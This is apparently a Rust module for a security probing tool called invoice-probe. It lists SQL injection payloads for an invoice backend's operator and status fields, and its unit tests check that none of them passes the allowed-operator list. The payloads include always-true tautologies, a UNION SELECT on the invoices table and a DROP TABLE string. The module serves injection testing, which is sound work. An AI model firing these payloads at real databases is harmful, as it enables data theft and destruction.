// Injection payloads for invoice-probe
// Canonical probe values plus the variant families used by sweeps

/// Boolean tautology smuggled into the `operator` field.
pub const OPERATOR_TAUTOLOGY: &str = "OR 1=1 --";

/// Tautology appended to a string literal in the `status` field.
pub const STATUS_TAUTOLOGY: &str = "paid' OR '1'='1";

/// Operator the backend is expected to accept.
pub const SAFE_OPERATOR: &str = "=";

/// Status filter sent alongside operator payloads.
pub const BASELINE_STATUS: &str = "paid";

/// Comparison operators the invoice backend accepts for `operator`.
///
/// Observed on the reference backend and not part of a published contract;
/// confirm against the target before probing with operators other than `=`.
pub const ALLOWED_OPERATORS: &[&str] = &["=", "!=", ">", "<", ">=", "<="];

pub fn is_allowed_operator(op: &str) -> bool {
    ALLOWED_OPERATORS.contains(&op)
}

/// Generate operator-field payloads. None of them is an allowed operator,
/// so a safe backend ignores every one and falls back to the unfiltered list.
///
/// The canonical tautology always comes first.
pub fn operator_payloads() -> Vec<String> {
    vec![
        OPERATOR_TAUTOLOGY.to_string(),
        "OR 1=1 #".to_string(),
        "OR 1=1 /*".to_string(),
        "OR 'a'='a' --".to_string(),
        "= 'paid' OR 1=1 --".to_string(),
        "IS NOT NULL OR".to_string(),
        "= 'x' UNION SELECT * FROM invoices --".to_string(),
        "= 'paid'; DROP TABLE invoices; --".to_string(),
    ]
}

/// Generate status-field payloads derived from `base`.
///
/// Every payload closes the string literal with a quote and appends an
/// always-true clause. Bound as a parameter it can never equal a real status.
pub fn status_payloads(base: &str) -> Vec<String> {
    vec![
        format!("{}' OR '1'='1", base),
        format!("{}' OR 1=1 --", base),
        format!("{}' OR 'a'='a' /*", base),
        format!("{}\" OR \"1\"=\"1", base),
        format!("{}' OR status LIKE '%", base),
        format!("{}') OR ('1'='1", base),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn canonical_status_payload_matches_constant() {
        assert_eq!(status_payloads(BASELINE_STATUS)[0], STATUS_TAUTOLOGY);
    }

    #[test]
    fn operator_payloads_never_allowed() {
        for p in operator_payloads() {
            assert!(!is_allowed_operator(&p), "{} should not be allowed", p);
        }
    }

    #[test]
    fn status_payloads_escape_literal() {
        for p in status_payloads("paid") {
            assert!(p.contains('\'') || p.contains('"'), "{} has no quote", p);
            assert!(p.starts_with("paid"));
        }
    }

    #[test]
    fn safe_operator_is_allowed() {
        assert!(is_allowed_operator(SAFE_OPERATOR));
        assert!(!is_allowed_operator(OPERATOR_TAUTOLOGY));
    }
}
